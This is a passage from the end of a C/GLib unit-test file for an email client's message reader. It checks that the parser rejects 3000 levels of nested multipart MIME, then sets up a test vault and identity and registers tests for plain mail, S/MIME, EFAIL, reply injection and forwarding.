    for (guint i = 0; i < 3000; i++)
      g_string_append_printf (deep, "Content-Type: multipart/mixed; boundary=b%u\n\n--b%u\n", i, i);
    raw = g_bytes_new (deep->str, deep->len);
    g_clear_error (&error);
    d = ep_read_message_parse (raw, NULL, NULL, FALSE, &error);
    g_assert_null (d);
    g_assert_error (error, EP_MAIL_ERROR, EP_MAIL_ERROR_INVALID);
  }
}

int
main (int    argc,
      char **argv)
{
  g_autoptr(EpCertInfo) info = NULL;
  g_autofree char *path = NULL;
  g_autofree char *cache = NULL;
  int result;

  tmp_dir = g_dir_make_tmp ("epistle-read-XXXXXX", NULL);
  cache = g_build_filename (tmp_dir, "cache", NULL);
  g_setenv ("XDG_CACHE_HOME", cache, TRUE);
  g_setenv ("TZ", "UTC", TRUE);
  ep_core_init ();
  g_test_init (&argc, &argv, NULL);

  path = g_build_filename (tmp_dir, "vault", NULL);
  vault = ep_vault_new (path);
  g_assert_true (ep_vault_load_sync (vault, VAULT_PASS, NULL, NULL));
  info = ep_vault_create_identity (vault, "Ann Example", "ann@example.org", NULL);
  g_assert_nonnull (info);
  fingerprint = g_strdup (info->fingerprint);

  g_test_add_func ("/mail/read/plain", test_plain);
  g_test_add_func ("/mail/read/alternative", test_alternative);
  g_test_add_func ("/mail/read/charsets", test_charsets);
  g_test_add_func ("/mail/read/encoded-words", test_encoded_words);
  g_test_add_func ("/mail/read/attachments", test_attachments);
  g_test_add_func ("/mail/read/smime-epistle", test_smime_epistle);
  g_test_add_func ("/mail/read/smime-signed", test_smime_signed);
  g_test_add_func ("/mail/read/smime-openssl", test_smime_openssl);
  g_test_add_func ("/mail/read/efail", test_efail);
  g_test_add_func ("/mail/read/efail-signed", test_efail_signed);
  g_test_add_func ("/mail/read/password", test_password);
  g_test_add_func ("/mail/read/bounce", test_bounce);
  g_test_add_func ("/mail/read/reply", test_reply);
  g_test_add_func ("/mail/read/reply-injection", test_reply_injection);
  g_test_add_func ("/mail/read/forward", test_forward);
  g_test_add_func ("/mail/read/not-a-message", test_not_a_message);

  result = g_test_run ();
  g_object_unref (vault);
  g_free (fingerprint);
  test_remove_tree (tmp_dir);
  g_free (tmp_dir);
  return result;
}
